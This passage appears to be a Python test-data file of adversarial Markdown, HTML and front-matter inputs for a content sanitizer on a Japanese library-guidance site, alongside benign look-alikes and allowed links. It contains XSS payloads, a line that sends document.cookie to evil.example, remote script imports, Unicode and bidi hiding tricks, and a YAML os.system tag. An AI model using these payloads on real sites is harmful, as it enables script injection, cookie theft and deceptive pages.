    "telephone number, letter D": "番号はO-1-2-O-四四四-壱壱参です。",
    "telephone number, plus in brackets": "Call (+81) (3) 5555 1234.",
    "telephone number, three signs": "0120 (444) 113",
    "telephone number, zenkaku spaced brackets": "０１２０（ ４４４ ）１１３",
    "fresh: host with bracket dot": "Open evil[.]example now.",
    # ---- from a reviewer who had seen neither checks nor allowlists ----
    "unseen: details ontoggle": (
        "<details open ontoggle=\"location='//evil.example/'\"><summary>返却の手順</summ"
        "ary>\n"
        "本は窓口へ返します。\n"
        "</details>"
    ),
    "unseen: attr heading pointer": (
        "## 借り方の流れ {: #flow onpointerrawupdate=\"import('//evil.example/m.js')\" ."
        "step }\n"
        "\n"
        "窓口で申し込みます。"
    ),
    "unseen: attr img src override": (
        "![図書館の入口](assets/door.png){ loading=lazy src=//evil.example/door.png }\n"
        "\n"
        "入口は東側です。"
    ),
    "unseen: attr link href override": (
        'くわしくは[借り方](guide/borrow.md){ rel="noopener" href="https://evil.example/'
        'borrow" }をご覧ください。'
    ),
    "unseen: attr style para": (
        "窓口は平日だけ開いています。\n"
        '{: style="position:fixed;inset:0;z-index:99;background:#fff url(//evil.example/'
        'b.png)" }'
    ),
    "unseen: svg animate href": (
        '<svg viewBox="0 0 90 20" width="90"><a><animate attributeName="href" values="ja'
        'vascript:alert(1);#" begin="0s" dur="99999s"/><text y="15">開く</text></a></svg>'
    ),
    "unseen: meta refresh md block": (
        '<div markdown="block">\n'
        "\n"
        "窓口の時間は変わりました。\n"
        "\n"
        '<meta http-equiv="refresh" content="9; url=https&#58;//evil.example/">\n'
        "\n"
        "</div>"
    ),
    "unseen: base in list": (
        '1. 申込書を書く\n2. 窓口に出す <base href="https://evil.example/">\n3. 本を受け取る'
    ),
    "unseen: iframe srcdoc entities": (
        "地図:\n"
        "\n"
        '<iframe title="地図" srcdoc="&lt;script src=//evil.example/a.js&gt;&lt;/script&'
        'gt;"></iframe>'
    ),
    "unseen: shadowroot template": (
        '<div><template shadowrootmode="open"><style>:host{all:initial}slot{display:none'
        '}</style><p>手続きは <a href="https://evil.example/">こちら</a></p><slot></slot'
        "></template>\n"
        "相手に払わないでください。\n"
        "</div>"
    ),
    "unseen: speculationrules": (
        '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]'
        "}]}</script>\n"
        "\n"
        "How to borrow a book."
    ),
    "unseen: button formaction": (
        "<form id=f></form>\n"
        "\n"
        '窓口の予約: <button form=f formaction="https://evil.example/p" formmethod=post>'
        "予約する</button>"
    ),
    "unseen: mathml mxss": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;"></mglyph></table></mtext></math>'
    ),
    "unseen: noscript title break": (
        "<noscript><p title=\"</noscript><img src=x onerror=import('//evil.example/m.js"
        "')>\">JavaScript を有効にしてください。</p></noscript>"
    ),
    "unseen: fence attr event": (
        "``` { .text #memo onmouseenter=\"fetch('//evil.example/'+document.cookie)\" tit"
        'le="<img src=//evil.example/t.png>" }\n'
        "貸出は二週間です\n"
        "```"
    ),
    "unseen: js scheme tab entity": (
        "[印刷する](<java&Tab;script&colon;print()//>)と[保存する](\x01javascript:alert`"
        "1`)を使えます。"
    ),
    "unseen: refdef split scheme": (
        "申込みは[借り方のページ][b]から。\n"
        "\n"
        "[ B ]:\n"
        "    <\\\\evil.example/guide/borrow/>\n"
        "    '借り方'"
    ),
    "unseen: picture srcset": (
        '<picture><source media="(min-width:1px)" srcset="assets/door.png 1x, //evil.exa'
        'mple/d.png 2x"><img alt="入口" src="assets/door.png"></picture>'
    ),
    "unseen: td background attr": (
        "| 曜日 | 時間 |\n"
        "|---|---|\n"
        "| 平日{: background=//evil.example/x.gif onclick=alert(1) } | 9時から |\n"
        "| 土曜 | 休み <bgsound src=//evil.example/a.wav><link rel=dns-prefetch href=//e"
        "vil.example> |"
    ),
    "unseen: contact attr href tel": (
        "まず[図書館の受付](contact:front-desk){ .tel href=tel:0990123456 }に電話してください。"
    ),
    "unseen: source text names other host": (
        "利用の決まりは [evil.example/rules](source:library-rules) にあります。"
    ),
    "unseen: automail entityised": ("返事がないときは <desk@evil.example> へ。"),
    "unseen: arabic indic digits": ("Night desk: ٠٣-٩٩٩٩-٠٠٠٠, ७ days a week."),
    "unseen: rlo reversed number": ("夜間の受付: \u202e654-321-0990\u202c までお電話ください。"),
    "unseen: userinfo url": (
        "利用の決まり: <https://library.example@evil.example/rules?x=library.example>"
    ),
    "unseen: ideographic dot host": (
        "ブラウザーの上の欄に「evil。example／ｕｋｅｔｓｕｋｅ」と入れると、申込書が開きます。"
    ),
    "unseen: broken img alt": (
        "![受付は 0990 の 123 の 456 です](assets/door.png){ src=assets/none.png }"
    ),
    "unseen: input value readonly": (
        '<label>受付の番号 <input readonly size=14 value="&#48;990&#x2d;123&#45;456"></label>'
    ),
    "unseen: line handle fullwidth": (
        "無料で相談できます。ラ\u200bイ\u200bンの友だち検索で「＠ｅｖｉｌ＿ｈｅｌｐ」を"
        "さがしてください。"
    ),
    "unseen: nested bracket link": (
        "[[図書館の決まり library.example](source:library-rules)](https://evil.example/)"
        " を読んでください。"
    ),
    "unseen: md toggle class": (
        '<div class="md-toggle" markdown>\n'
        "\n"
        '!!! danger "払わないでください"\n'
        "    相手に連絡しないでください。\n"
        "\n"
        "</div>"
    ),
    "unseen: attr md skip": (
        "相手に電話をしないでください。お金を払わないでください。\n{: .md-skip }"
    ),
    "unseen: button lookalike": (
        "[いますぐ解約の手続きをする](https://evil.example/){ .md-button .md-button--primary }"
    ),
    "unseen: admonition custom class": (
        '!!! danger md-consent md-overlay "図書館からの大切なお知らせ"\n'
        "    期限までに[手続き](https://evil.example/)をしないと料金がふえます。"
    ),
    "unseen: unclosed comment after": (
        "窓口は平日 9 時からです。\n\n<!-- 次の更新で消す\n\n以下、注意:"
    ),
    "unseen: unclosed textarea": ("申込みの例: <textarea rows=1 style>山田\n\n例は以上です。"),
    "unseen: details collapse warning": (
        '<details class="abstract" markdown="1"><summary>編集の記録（読まなくてかまいま'
        "せん）</summary>\n"
        "\n"
        "相手に連絡しないでください。お金を払わないでください。\n"
        "\n"
        "</details>"
    ),
    "unseen: select option swallow": (
        '<select size="1"><option>手続きをする<option>払わないでください、相手に連絡しな'
        "いでください</select>"
    ),
    "unseen: br push down": (
        "手続きをしてください。<br><br><br><br><br><br><br><br><br><br><br><br><br><br><"
        "br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>"
        "<br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br"
        "><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><b"
        "r><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><"
        "br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>"
        "<br><br><br><br><br><br><br>\n"
        "\n"
        "払う前に相談してください。"
    ),
    "unseen: img height push": (
        "![](assets/door.png){ width=1 height=30000 align=left hspace=400 }\n"
        "\n"
        "払う前に相談してください。"
    ),
    "unseen: close article": (
        "窓口は東側です。\n"
        "\n"
        "</article></div></div></main>\n"
        "\n"
        '<footer class="md-footer"><p>図書館公式 <a href="https://evil.example/">お支払'
        "い窓口</a></p></footer>"
    ),
    "unseen: strike warning": (
        "<del>相手に連絡しないでください。お金を払わないでください。</del>\n"
        "\n"
        "<ins>（改正により、この注意は終わりました）</ins>"
    ),
    "unseen: small nested": (
        "<sub><sub><sub><sub><sub><sub><small>払わないでください。</small></sub></sub></"
        "sub></sub></sub></sub>\n"
        "\n"
        "# 払えば終わります"
    ),
    "unseen: id collision toggle": (
        "## 検索 { #__search .md-search data-md-component=search }\n"
        "\n"
        '<label for="__drawer" class="md-overlay" style="">\u3000</label>'
    ),
    "unseen: announce banner": (
        '<aside class="md-banner" data-md-component="announce" role="alert" markdown>\n'
        "**このサイトからのお知らせ：** このページの注意は古いものです。聞いていない料金は"
        "払う必要があります。\n"
        "</aside>"
    ),
    "unseen: tag characters": (
        "窓口は平日だけです。\U000e0070\U000e0061\U000e0079\U000e0020\U000e0068"
        "\U000e0074\U000e0074\U000e0070\U000e0073\U000e003a\U000e002f\U000e002f"
        "\U000e0065\U000e0076\U000e0069\U000e006c\U000e002e\U000e0065\U000e0078"
        "\U000e0061\U000e006d\U000e0070\U000e006c\U000e0065\U000e002f\U000e0020"
        "\U000e006e\U000e006f\U000e0077\U000e007f土曜は休みです。"
    ),
    "unseen: variation selector bytes": ("本は二週間借りられます📖󠄬󠅣󠅓󠅢󠅙󠅠󠅤󠄐󠅣󠅢󠅓󠄭󠄟󠄟󠅕󠅦󠅙󠅜󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄮。"),
    "unseen: placeholder forgery": (
        "<b hidden>x</b>窓口 \x02wzxhzdk:0\x03 と \x02klzzwxh:0001\x03 と \x02amp\x03#48; です。"
    ),
    "unseen: cr and nel lines": (
        '窓口は平日だけです。\r\r<div onclick="alert(1)">\r土曜は休みです。\x85\u2028</d'
        "iv>\x0b\x0c- 以上"
    ),
    "unseen: ansi conceal diff": (
        "窓口は平日だけです。\x1b[8m 料金は [こちら](https://evil.example/) \x1b[28m\x1b"
        "[1A\x1b[2K土曜は休みです。"
    ),
    "unseen: duplicate refdef": (
        "[決まり][r]を読んでください。\n"
        "\n"
        "[r]: guide/borrow.md\n"
        "\n"
        "> - 補足\n"
        '>     [R]: //evil.example/r "決まり"\n'
        "\n"
        "[r]: https://evil.example/r"
    ),
    "unseen: shortcut ref hijack": (
        "- [x] 本を返す\n"
        "- [ ] 申込書を出す\n"
        "\n"
        "[x]: https://evil.example/\n"
        '[注意]: https://evil.example/ "[注意] はページの下にあります"'
    ),
    "unseen: zalgo overlay": ("土曜は休みです。払̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴わないでください。"),
    "unseen: homoglyph source": (
        "利用の決まりは [librаry.example](source:librаry-rules) と [library․example](sou"
        "rce:library-rules\xad) にあります。"
    ),
    "unseen: pi cdata mix": (
        "<?note 窓口 ?><![CDATA[ <p> ]]><!x>\n"
        '<?a "?><img src=x onerror=alert(1)>" ?>\n'
        "\n"
        "<![CDATA[><svg/onload=alert(1)>]]>"
    ),
    "unseen: bidi isolate swap": (
        "払って\u2067\u2066いけません\u2069 \u2066ください\u2069\u2069。 Do \u202dnot"
        "\u202c \u2068\u202epay\u202c\u2069 them."
    ),
    "unseen: code span unbalanced": (
        "例: `` ` <b> ``` と書きます。`<img src=//evil.example/i.png>\\`` \\`<u onclick="
        "alert(1)>下線</u>\\`\n"
        "\n"
        "    ```html\n"
        "<i onfocus=alert(1) tabindex=0 autofocus>例</i>\n"
        "    ```"
    ),
    "host to be typed": "Open evil.example now.",
    "host to be typed, in code": "Open `evil.example` now.",
    "host to be typed, in a fence": "```text\nevil.example/refund\n```",
    "host to be typed, in pieces": "Open evil.**example** now.",
    "host to be typed, full width": "ｅｖｉｌ．ｅｘａｍｐｌｅを開いてください。",
    "host to be typed, in a cell": "| a |\n| --- |\n| evil.example |",
    "telephone number without its area code": "Call 5555-1234 now.",
    "account in digits": "みずほ支店の口座1234567に払います。",
    "account in English": "Pay into account 7654321 at the branch.",
    "account of a wallet": "Send it to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.",
    "telephone number over two sentences": "03-5550です。そのあとに0187を続けます。",
    "telephone number that goes on in a footnote": "03-5550です[^a]。\n\n[^a]: 次に0187です。",
    "telephone number told in parts": "It begins with 050. The middle is 3555. It ends in 0187.",
    "telephone number in words, with nought": "Dial nought three, then 1234 and 5678.",
    "account in an amount": "みずほ支店の口座3,812,094番に払います。",
    "comment around a word": "Do <!-- not --> pay them.",
    "telephone number of dice": "Call 0\u2680\u26810-\u2683\u2683\u2683-\u2680\u2680\u2682.",
}

FRONT_MATTER: dict[str, str] = {
    "title that runs": "title: a</title><script>alert(1)</script>",
    "title in quotes that runs": "title: '\"><script>alert(1)</script>'",
    "title with an entity": "title: a &lt;script&gt;",
    "description that runs": "description: '\" onload=\"alert(1)'",
    "description that closes": "description: 'a\"><script>alert(1)</script>'",
    "other template": "template: redirect.html",
    "other place": "location: https://evil.example/",
    "hidden from the navigation": "hide: [navigation, toc]",
    "hidden from the search": "search: {exclude: true}",
    "status": "status: deprecated",
    "icon": "icon: material/script",
    "a tag that runs": "title: !!python/object/apply:os.system [id]",
    "a tag of another kind": "title: !!binary YWxlcnQ=",
    "an alias": "title: &a b\ndescription: *a",
    "a merge": "title: a\n<<: {template: redirect.html}",
}

LOOK_ALIKES: dict[str, str] = {
    "words": "A script and onclick are words. So is javascript:.",
    "code": "`<script>alert(1)</script>` and `[a](javascript:alert(1))`.",
    "code with two backticks": "``<img src=x onerror=`alert(1)`>``",
    "fence": "```html\n<script>alert(1)</script>\n<iframe src='https://evil.example/'>\n```",
    "fence of tildes": '~~~\n{: onclick="alert(1)" }\n~~~',
    "fence with a language": "```{ .html }\n<script>\n```",
    "indented code": "    <script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "less than": "1 < 2, a <3 b, x <= y, and 5 > 4.",
    "arrows": "a -> b <- c => d <-> e",
    "comment": "<!-- <script>alert(1)</script> [a](javascript:alert(1)) -->",
    "comment with hyphens": "<!-- a - b -->",
    "fold": "<details><summary>More</summary>Text</details>",
    "break": "a<br>b<br/>c<wbr>d",
    "keys": "Press <kbd>Ctrl</kbd> and <kbd>C</kbd>.",
    "own class": "a\n{: .say-words lang=ja }",
    "container": '<div class="printout" markdown>\n\na\n\n</div>',
    "list in HTML": "<ul><li>one</li><li>two</li></ul>",
    "table in HTML": '<table><tr><td colspan="2">a</td></tr></table>',
    "picture": "![a](assets/door.png)",
    "picture in HTML": '<img src="assets/door.png" alt="a" width="10" height="10">',
    "emoji that are joined": "👩\u200d👧 and 🏳️\u200d🌈",
    "variation selector": "☎️ and 葛\U000e0100",
    "accents": "Naïve café, Zürich, “quotes”, … and 日本語。",
    "entity of a space": "a&nbsp;b &amp; c",
    "short numbers": "188, #9876, 110 and 2026-11-24, 98,000 yen, 1-2-3.",
    "a form before short numbers": "支店は〇〇、名義は〇〇です。 188番と110番、声で110。",
    "date with slashes": "2026/11/24 and 10:00-16:00",
    "amounts": "0円から1,000,000,000円まで、10 000 000 yen",
    "times": "09:00〜12:00・13:00〜17:00、令和07年11月26日09時30分",
    "a scale": "0, 20, 40, 60, 80, 100, 120",
    "braces": "a {b} c {: not a list",
    "snippet in words": "Scissors: - - 8< - -",
    "snippet as code": '`--8<-- "a.md"`',
}

ADDRESSES: dict[str, str] = {
    "mail address": "[a](mailto:desk@city.example)",
    "address of the web": "[a](https://city.example/javascript:a?data:b#c)",
    "same host shown": "[city.example](https://city.example/)",
    "same host shown, with www": "[city.example/a](https://www.city.example/a)",
    "host inside the site shown": "[desk.city.example](https://desk.city.example/)",
    "file name shown": "[rules.md and contacts.yml](https://city.example/)",
    "number with a dot": "[version 1.2.3](https://city.example/1.2.3)",
    "abbreviation": "[e.g. this one](https://city.example/)",
    "at sign in a path": "[a](https://city.example/@name)",
    "port": "[a](https://city.example:8443/)",
    "coded path": "[a](https://city.example/%E8%AD%A6)",
    "Japanese path": "[a](https://city.example/役所)",
}
"""Links that are allowed on pages for contributors, which may link to any host."""
